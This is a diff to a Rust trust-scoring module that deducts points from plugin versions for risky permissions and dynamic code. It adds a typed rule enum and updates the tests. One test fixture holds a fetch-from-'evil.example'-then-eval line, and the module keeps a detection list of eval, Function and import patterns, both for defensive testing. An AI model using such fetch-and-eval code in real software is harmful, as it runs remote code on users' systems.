@@ -1,6 +1,8 @@
 //! Trust scores: how far a version's code can be trusted, by rules over its manifest and source. Each rule that deducts
 //! points says why. The score depends on the input alone.
 
+mod phrases;
+
 use std::collections::BTreeMap;
 
 use serde::{Deserialize, Serialize};
@@ -43,82 +45,119 @@ pub struct TrustAssessment {
     pub findings: Vec<TrustFinding>,
 }
 
+/// A rule that deducts points.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum TrustRule {
+    /// It can call external hosts.
+    Hosts,
+    /// It can send data to external hosts.
+    HostsWrite,
+    /// It can use connections.
+    Connections,
+    /// It asks for the text of secrets.
+    SecretsClear,
+    /// It can change the rows of projects.
+    ProjectsWrite,
+    /// It can use every table of projects.
+    ProjectsWhole,
+    /// It can send data to AI models.
+    Models,
+    /// Its code calls `eval`.
+    Eval,
+    /// Its code creates functions from text.
+    Function,
+    /// Its code imports modules at run time.
+    Import,
+    /// Its code accesses the prototypes of objects.
+    Prototypes,
+    /// Its code names hosts that its manifest does not declare.
+    Undeclared,
+    /// It has more code than a person can review.
+    Size,
+}
+
+kernel::names! {
+    TrustRule {
+        Hosts = "hosts",
+        HostsWrite = "hosts_write",
+        Connections = "connections",
+        SecretsClear = "secrets_clear",
+        ProjectsWrite = "projects_write",
+        ProjectsWhole = "projects_whole",
+        Models = "models",
+        Eval = "eval",
+        Function = "function",
+        Import = "import",
+        Prototypes = "prototypes",
+        Undeclared = "undeclared",
+        Size = "size",
+    }
+}
+
 /// A rule that deducted points.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct TrustFinding {
+    /// Rule.
+    pub rule: TrustRule,
     /// Points deducted; 1 to 100.
     pub points: u8,
-    /// Reason, as a sentence.
-    pub message: String,
+    /// Number of what it found: hosts, connections, secrets, projects; KiB of [`TrustRule::Size`].
+    pub count: usize,
+    /// File or host that shows it.
+    pub example: Option<String>,
 }
 
-/// Source text whose effect cannot be told before it runs, and how a finding describes it.
-const DYNAMIC_CODE_PATTERNS: [(&str, &str); 4] = [
-    ("eval(", "calls eval"),
-    ("Function(", "creates functions from text"),
-    ("import(", "imports modules at run time"),
-    ("__proto__", "accesses object prototypes"),
+/// Source text whose effect cannot be told before it runs.
+const DYNAMIC_CODE_PATTERNS: [(&str, TrustRule); 4] = [
+    ("eval(", TrustRule::Eval),
+    ("Function(", TrustRule::Function),
+    ("import(", TrustRule::Import),
+    ("__proto__", TrustRule::Prototypes),
 ];
 
 /// Assesses a version by every rule.
 #[must_use]
 pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> TrustAssessment {
     let mut findings = Vec::new();
-    let mut find = |points: usize, sentence: String| {
+    let mut find = |rule, count: usize, points: usize, example: Option<String>| {
         if points > 0 {
-            findings.push(TrustFinding { points: points.min(100) as u8, message: sentence });
+            findings.push(TrustFinding { rule, points: points.min(100) as u8, count, example });
         }
     };
     let permissions = &manifest.permissions;
     let hosts = permissions.egress.len();
-    find((hosts * 3).min(20), format!("It can call {}.", count(hosts, "external host")));
-    let writing_hosts = permissions
-        .egress
-        .iter()
-        .filter(|egress| {
-            egress.methods.as_ref().is_none_or(|methods| methods.iter().any(|m| *m != HttpMethod::Get))
-        })
-        .count();
-    find(
-        (writing_hosts * 2).min(10),
-        format!("It can send data to {}.", count(writing_hosts, "external host")),
-    );
+    find(TrustRule::Hosts, hosts, (hosts * 3).min(20), None);
+    let writes = |methods: &Vec<HttpMethod>| methods.iter().any(|method| *method != HttpMethod::Get);
+    let writing = permissions.egress.iter().filter(|egress| egress.methods.as_ref().is_none_or(writes));
+    let writing = writing.count();
+    find(TrustRule::HostsWrite, writing, (writing * 2).min(10), None);
     let connectors = permissions.connectors.len();
-    find((connectors * 5).min(20), format!("It can use {}.", count(connectors, "connection")));
+    find(TrustRule::Connections, connectors, (connectors * 5).min(20), None);
     let clear = permissions.secrets.iter().filter(|secret| secret.clear).count();
-    find((clear * 5).min(15), format!("It asks for the text of {}.", count(clear, "secret")));
-    let writes = permissions.data.iter().filter(|data| data.access == DataAccess::Write).count();
-    find((writes * 4).min(12), format!("It can change the rows of {}.", count(writes, "project")));
-    let unlimited = permissions.data.iter().filter(|data| data.tables.is_none()).count();
-    find((unlimited * 2).min(6), format!("It can use every table of {}.", count(unlimited, "project")));
+    find(TrustRule::SecretsClear, clear, (clear * 5).min(15), None);
+    let writable = permissions.data.iter().filter(|data| data.access == DataAccess::Write).count();
+    find(TrustRule::ProjectsWrite, writable, (writable * 4).min(12), None);
+    let whole = permissions.data.iter().filter(|data| data.tables.is_none()).count();
+    find(TrustRule::ProjectsWhole, whole, (whole * 2).min(6), None);
     if permissions.ai.is_some() {
-        find(5, "It can send data to AI models.".to_owned());
+        find(TrustRule::Models, 1, 5, None);
     }
 
-    for (needle, what) in DYNAMIC_CODE_PATTERNS {
+    for (needle, rule) in DYNAMIC_CODE_PATTERNS {
         if let Some((path, _)) = files.iter().find(|(_, text)| contains_token(text, needle)) {
-            find(15, format!("The file {path} {what}."));
+            find(rule, 1, 15, Some(path.clone()));
         }
     }
     let undeclared = undeclared_hosts(manifest, files);
-    if let Some(first) = undeclared.first() {
-        let hosts = count(undeclared.len(), "host");
-        find(
-            (undeclared.len() * 10).min(30),
-            format!("Its code names {hosts} that its manifest does not declare, such as {first}."),
-        );
-    }
+    let points = (undeclared.len() * 10).min(30);
+    find(TrustRule::Undeclared, undeclared.len(), points, undeclared.first().cloned());
     let kib = files.values().map(String::len).sum::<usize>() >> 10;
     if kib > 200 {
-        find(10, format!("It has {kib} KiB of code, more than a person can review."));
+        find(TrustRule::Size, kib, 10, None);
     }
     let deducted_points: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
     TrustAssessment { score: 100_u32.saturating_sub(deducted_points) as u8, findings }
-}
-
-/// Returns a number with its noun, in the plural unless the number is 1.
-fn count(number: usize, noun: &str) -> String {
-    format!("{number} {noun}{}", if number == 1 { "" } else { "s" })
 }
 
 /// Returns `true` if `text` has `needle` and no longer name ends in it: `eval(` is not found in `medieval(`.
@@ -170,12 +209,8 @@ mod tests {
         manifest.permissions.egress = vec![permission("a.example", Some(vec![HttpMethod::Get]))];
         manifest.permissions.egress.push(permission("b.example", None));
         let assessment = assess(&manifest, &source(""));
-        let findings: Vec<_> =
-            assessment.findings.iter().map(|finding| (finding.points, finding.message.as_str())).collect();
-        assert_eq!(
-            findings,
-            [(6, "It can call 2 external hosts."), (2, "It can send data to 1 external host.")]
-        );
+        let findings: Vec<_> = assessment.findings.iter().map(|it| (it.rule, it.points, it.count)).collect();
+        assert_eq!(findings, [(TrustRule::Hosts, 6, 2), (TrustRule::HostsWrite, 2, 1)]);
         assert_eq!(assessment.score, 92);
     }
 
@@ -192,8 +227,11 @@ mod tests {
         let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
         let hidden = source("fetch('https://evil.example/x'); eval(x)");
         let before = assess(&manifest, &hidden);
-        assert!(before.findings.iter().any(|finding| finding.message.contains("evil.example")));
-        assert!(before.findings.iter().any(|finding| finding.message.contains("eval")));
+        let shown: Vec<_> = before.findings.iter().map(|it| (it.rule, it.example.as_deref())).collect();
+        assert_eq!(
+            shown,
+            [(TrustRule::Eval, Some("main.js")), (TrustRule::Undeclared, Some("evil.example"))]
+        );
         manifest.permissions.egress.push(EgressPermission { host: "evil.example".to_owned(), methods: None });
         let declared = assess(&manifest, &hidden);
         assert!(declared.score > before.score, "asking openly costs less than hiding");
